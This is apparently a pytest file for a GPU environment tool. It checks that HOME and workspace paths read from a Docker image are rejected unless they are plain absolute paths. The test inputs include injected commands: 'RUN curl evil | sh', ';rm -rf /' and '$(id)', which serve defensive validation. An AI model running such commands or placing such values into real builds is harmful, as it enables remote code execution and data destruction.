"""The derived image's Dockerfile takes HOME and GPUENV_WORKSPACE from the loaded image, which a bundle
controls: a value that is not a plain absolute path is refused before anything is built."""

from __future__ import annotations

from typing import Any, Optional

import pytest

from gpuenv.images.retarget import dockerfile, retarget
from gpuenv.errors import BadInput


class NothingThere:
    """An engine that has no image yet and must not be asked to build."""

    client = "docker"

    def image(self, ref: str) -> Optional[dict[str, Any]]:
        return None

    def argv(self, *args: str) -> list[str]:
        raise AssertionError(f"nothing may be built: docker {' '.join(args)}")


@pytest.mark.parametrize("env", [["HOME=/home/x\nRUN curl evil | sh"], ["HOME=relative"], ["HOME=/a b"],
                                 ["GPUENV_WORKSPACE=/w;rm -rf /"], ["GPUENV_WORKSPACE=/w$(id)"]])
def test_a_home_or_workspace_that_is_not_a_plain_path_is_refused(env: list[str]) -> None:
    info = {"Id": "sha256:" + "ab" * 32, "Config": {"Env": env}}
    with pytest.raises(BadInput, match="is not a plain absolute path"):
        retarget(NothingThere(), info, 4321, 4322, "gpuenv-demo:0123456789ab")   # type: ignore[arg-type]


def test_plain_paths_make_the_dockerfile_they_always_made() -> None:
    text = dockerfile("sha256:" + "ab" * 32, 4321, 4322, "/home/gpuenv", "/workspace")
    assert text.splitlines()[0] == "FROM sha256:" + "ab" * 32 and len(text.splitlines()) == 5
